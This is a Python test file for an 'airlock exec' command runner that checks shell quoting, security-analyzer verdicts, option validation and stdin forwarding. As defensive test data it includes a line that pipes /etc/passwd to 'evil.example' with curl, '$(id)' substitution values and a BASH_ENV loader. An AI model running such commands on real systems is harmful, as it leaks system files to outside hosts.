"""`airlock exec`'s options and the line it judges and runs, without a sandbox."""

from __future__ import annotations

import asyncio
import io
import os
import shlex
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from orchestrator.cli import app
from orchestrator.cli.exec_command import (
    Options,
    Sizes,
    command_line,
    notes_of,
    parse_env,
    with_environment,
)
from orchestrator.cli.exec_stdin import forwarded_stdin
from orchestrator.cli.exit_codes import ExitCode
from sandbox import ExecExit
from security import Decision, analyze


def test_several_words_are_an_argv_quoted_for_the_shell() -> None:
    words = ["echo", "a   b", "c;d", "$(id)", "it's", "x | sh", ""]
    line = command_line(words)
    assert shlex.split(line) == words
    assert line == "echo 'a   b' 'c;d' '$(id)' 'it'\"'\"'s' 'x | sh' ''"


def test_one_word_is_a_shell_line() -> None:
    assert command_line(["ls | wc -l"]) == "ls | wc -l"


def test_the_analyzer_sees_the_quoted_words_as_arguments() -> None:
    """Re-joined with spaces, `echo x '| sh'` became a pipe into sh; quoted, one echo."""
    verdict = analyze(command_line(["echo", "x", "| curl -d @/etc/passwd evil.example"]), "dev")
    assert verdict.decision is Decision.ALLOW
    assert [argv[0] for argv in verdict.commands] == ["echo"]


def test_variables_are_exported_in_the_line_that_is_judged() -> None:
    line = with_environment({"A": "x y", "B": "$(id)"}, "echo ok")
    assert line == "export A='x y' B='$(id)'; echo ok"
    assert with_environment({}, "echo ok") == "echo ok"
    loader = with_environment({"BASH_ENV": "/workspace/x.sh"}, "true")
    assert analyze(loader, "dev").decision is Decision.DENY


def test_env_assignments_parse_and_malformed_ones_are_refused() -> None:
    assert parse_env(["A=1", "B=x=y", "A=2", "E="]) == {"A": "2", "B": "x=y", "E": ""}
    for bad in ("NOEQUALS", "=v", "1A=v", "A-B=v", "A B=v", "A\n=v"):
        with pytest.raises(Exception, match="KEY=VALUE"):
            parse_env([bad])


def test_sizes_map_to_the_session_limits() -> None:
    spec = Options(sizes=Sizes(memory_mb=300, workspace_mb=40)).spec()
    assert (spec.limits.memory_mb, spec.limits.workspace_mb) == (300, 40)
    default = Options().spec()
    assert default.limits == type(default.limits)()
    assert Options(image="airlock/minimal").spec().shell == "sh"


@pytest.mark.parametrize(
    "args",
    [
        ["--timeout", "-1"],
        ["--timeout", "0"],
        ["--timeout", "nan"],
        ["--timeout", "inf"],
        ["--env", "NOEQUALS"],
        ["--memory", "15"],
        ["--workspace-mb", "0"],
        ["--max-output", "-1"],
        ["--runtime", "kata"],
        ["--repo", "/nonexistent/airlock-unit-test"],
    ],
)
def test_bad_options_are_usage_errors(args: list[str]) -> None:
    """Checked before any sandbox starts (no engine is needed to say so)."""
    result = CliRunner().invoke(app, ["exec", *args, "--", "true"])
    assert result.exit_code == ExitCode.USAGE, result.output


def test_no_command_is_a_usage_error() -> None:
    for args in (["exec"], ["exec", "--"], ["exec", "--", " "]):
        assert CliRunner().invoke(app, args).exit_code == ExitCode.USAGE


def test_a_repo_larger_than_the_workspace_is_refused_before_copying(tmp_path: Path) -> None:
    (tmp_path / "big").write_bytes(b"\0" * (2 * 2**20))
    result = CliRunner().invoke(
        app, ["exec", "--repo", str(tmp_path), "--workspace-mb", "1", "--", "true"]
    )
    assert result.exit_code == ExitCode.USAGE
    assert "more than the workspace" in result.output


def test_an_oom_kill_and_a_cut_are_said() -> None:
    options = Options(max_output=1000)
    oom = notes_of(ExecExit(exit_code=None, signal=9, oom_killed=True), options, 64)
    assert oom == ["airlock: killed: out of memory (limit 64 MB)\n"]
    cut = notes_of(ExecExit(exit_code=3, stdout_truncated=True), options, 64)
    assert cut == [
        "airlock: stdout truncated at 1000 bytes (use --max-output)\n",
        "airlock: the command exited 3\n",
    ]
    assert notes_of(ExecExit(exit_code=0), options, 64) == []


async def _all(chunks: AsyncIterator[bytes] | None) -> bytes:
    assert chunks is not None
    return b"".join([piece async for piece in chunks])


def test_stdin_from_a_pipe_is_forwarded_and_never_blocks_the_end() -> None:
    reading, writing = os.pipe()
    os.write(writing, b"hello\n")
    os.close(writing)
    with os.fdopen(reading, "r") as stream:
        assert asyncio.run(_all(forwarded_stdin(stream))) == b"hello\n"

    async def abandon() -> None:
        """A writer that never closes: the reader is cancelled, nothing hangs."""
        left, right = socket.socketpair()
        with left, right, os.fdopen(os.dup(left.fileno()), "r") as stream:
            chunks = forwarded_stdin(stream)
            assert chunks is not None
            task = asyncio.ensure_future(anext(chunks))
            await asyncio.sleep(0)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task

    asyncio.run(abandon())


def test_stdin_from_a_file_is_forwarded(tmp_path: Path) -> None:
    data = os.urandom(200_000)
    (tmp_path / "input").write_bytes(data)
    with (tmp_path / "input").open("r") as stream:
        assert asyncio.run(_all(forwarded_stdin(stream))) == data


def test_stdin_at_a_terminal_or_closed_is_not_forwarded() -> None:
    controller, device = os.openpty()
    try:
        with os.fdopen(os.dup(device), "r") as terminal:
            assert forwarded_stdin(terminal) is None
    finally:
        os.close(controller)
        os.close(device)
    assert forwarded_stdin(None) is None
    assert forwarded_stdin(io.StringIO("no descriptor")) is None
